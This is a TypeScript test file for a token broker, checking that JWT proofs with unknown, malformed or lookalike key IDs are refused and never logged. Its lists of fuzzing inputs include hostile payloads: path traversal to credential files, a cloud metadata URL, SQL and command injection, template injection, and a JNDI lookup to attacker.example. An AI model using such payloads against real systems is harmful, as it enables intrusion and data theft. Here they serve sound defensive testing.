/** Attacks with the name of a key: a hint, looked up among the issuer's keys and nowhere else. */

import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { generateStandInKey } from '../../providers/kit/stand-in-keys.ts'
import type { RefusalReason } from '../../src/audit/reasons.ts'
import { expectIssued, expectProofRefused } from '../support/answers.ts'
import { documentFor } from '../support/document.ts'
import { type Part, rawJws, signerOf } from '../support/raw-jws.ts'
import { expectRefusedUnasked } from '../support/refused-unasked.ts'
import { openScene, POD, type Scene } from '../support/scene.ts'

/** Names that a key could have, and none has. */
const UNKNOWN = [
  'a-kid-that-nobody-published',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'undefined',
  'null',
  '0',
  '-1',
  '*',
  '%',
  '../../etc/passwd',
  '../../../../../../dev/null',
  '/proc/self/environ',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  "'OR'1'='1'--",
  '";DROP/**/TABLE/**/keys;--',
  '$(id)',
  '`id`',
  '{{7*7}}',
  '#{jndi:ldap://attacker.example/a}',
  '%00',
  '\\u0000',
  '<script>',
  'k'.repeat(256),
] as const

/** Names that no key could have. */
const NO_NAMES: readonly (readonly [string, unknown])[] = [
  ['an empty name', ''],
  ['a name of 257 characters', 'k'.repeat(257)],
  ['a name of 8 KiB', 'kid-of-eight-kibibytes'.repeat(373)],
  ['a quote and a space', "' OR 1=1"],
  ['a line break', 'kid-of-attacker\n{"level":"info","msg":"kid-of-attacker"}'],
  ['a carriage return', 'kid-of-attacker\rkid-of-attacker'],
  ['a NUL', 'kid-of-attacker\u0000'],
  ['an escape sequence of a terminal', '\u001b[2Jkid-of-attacker'],
  ['a letter beyond ASCII', 'kid-of-attack\u00e9r'],
  ['a lone surrogate', 'kid-of-attacker\ud800'],
  ['null', null],
  ['false', false],
  ['a number', 0],
  ['an object', { kid: 'kid-of-attacker' }],
  ['an object that turns into text', { toString: 'kid-of-attacker' }],
  ['an empty list', []],
]

/** Names near that of the cluster's key. */
const NEAR: readonly (readonly [string, (keyId: string) => unknown, RefusalReason])[] = [
  ['in a list', (keyId) => [keyId], 'proof_malformed'],
  ['after a space', (keyId) => ` ${keyId}`, 'proof_malformed'],
  ['before a line break', (keyId) => `${keyId}\n`, 'proof_malformed'],
  ['before a NUL', (keyId) => `${keyId}\u0000`, 'proof_malformed'],
  ['in upper case', (keyId) => keyId.toUpperCase(), 'key_unknown'],
  ['in lower case', (keyId) => keyId.toLowerCase(), 'key_unknown'],
  ['with padding', (keyId) => `${keyId}=`, 'key_unknown'],
  ['without its last character', (keyId) => keyId.slice(0, -1), 'key_unknown'],
  ['in hexadecimal', (keyId) => Buffer.from(keyId, 'base64url').toString('hex'), 'key_unknown'],
  ['percent-encoded', (keyId) => `%${keyId.charCodeAt(0).toString(16)}${keyId.slice(1)}`, 'key_unknown'],
]

describe('before any key was fetched', () => {
  let scene: Scene
  beforeAll(async () => {
    scene = await openScene({ cluster: { algorithm: 'ES256' } })
  })
  afterAll(() => scene.close())

  test.each(NO_NAMES)('JWT-06 refuses %s for a kid, and asks nobody', async (_, kid) => {
    await expectRefusedUnasked(scene, forge(scene, { alg: 'ES256', kid }), 'proof_malformed')
  })

  test('JWT-06 refuses a header without kid, and asks nobody', async () => {
    await expectRefusedUnasked(scene, forge(scene, { alg: 'ES256' }), 'key_id_missing')
    await expectRefusedUnasked(scene, forge(scene, { alg: 'ES256', KID: scene.cluster.key.keyId }), 'key_id_missing')
    const inherited = `{"alg":"ES256","__proto__":{"kid":"${scene.cluster.key.keyId}"}}`
    await expectRefusedUnasked(scene, forge(scene, inherited), 'proof_malformed')
  })

  test('JWT-06 asks for the keys once, however many unknown kids follow each other', async () => {
    const asked = await scene.upstreamRequests(async () => {
      for (const kid of UNKNOWN) {
        const reply = await scene.broker.exchange(forge(scene, { alg: 'ES256', kid }))
        expectProofRefused(scene.broker, reply, 'key_unknown')
      }
    })

    expect(asked).toBe(2)
    expect(scene.cluster.requests.map(({ path }) => path)).toEqual([
      '/.well-known/openid-configuration',
      '/openid/v1/jwks',
    ])
  })

  test.each(NEAR)('JWT-06 refuses the kid of the cluster’s key %s', async (_, change, reason) => {
    const kid = change(scene.cluster.key.keyId)

    await expectRefusedUnasked(scene, forge(scene, { alg: 'ES256', kid }), reason)
  })

  test('JWT-06 writes no kid that a proof names into log, record or metric', async () => {
    const written = [
      JSON.stringify(scene.broker.logs()),
      JSON.stringify(scene.broker.records()),
      await scene.broker.metrics(),
    ].join('\n')

    const told = [...UNKNOWN, 'kid-of-attack', 'kid-of-eight'].filter((kid) => kid.length > 7 && written.includes(kid))
    expect(told).toEqual([])
    expect(scene.broker.logs().filter(({ msg }) => msg === 'refused').length).toBeGreaterThan(UNKNOWN.length)
  })

  test('a proof that names the cluster’s key gets a token', async () => {
    const header = { alg: 'ES256', kid: scene.cluster.key.keyId }

    expectIssued(scene.broker, await scene.broker.exchange(forge(scene, header)))
  })
})

test('JWT-06 refuses a kid that names the key of another trusted issuer', async () => {
  const other = await generateStandInKey('ES256')
  const scene = await openScene({
    cluster: { issuer: 'https://one.example', algorithm: 'ES256' },
    document: (cluster) =>
      documentFor(cluster.issuer, {
        trusted_issuers: {
          cluster: { provider: 'kubernetes', issuers: [cluster.issuer], keys: { from: 'inline', jwks: cluster.jwks } },
          other: {
            provider: 'kubernetes',
            issuers: ['https://other.example'],
            keys: { from: 'inline', jwks: { keys: [other.jwk] } },
          },
        },
      }),
  })
  onTestFinished(() => scene.close())

  const proof = rawJws({ alg: 'ES256', kid: other.keyId }, scene.cluster.claimsFor(POD), signerOf(other))

  expectProofRefused(scene.broker, await scene.broker.exchange(proof), 'key_unknown')
  expectIssued(scene.broker, await scene.broker.exchange(await scene.proof()))
})

/** The pod's claims under any header, with the cluster's own signature. */
function forge(scene: Scene, header: Part): string {
  return rawJws(header, scene.cluster.claimsFor(POD), signerOf(scene.cluster.key))
}
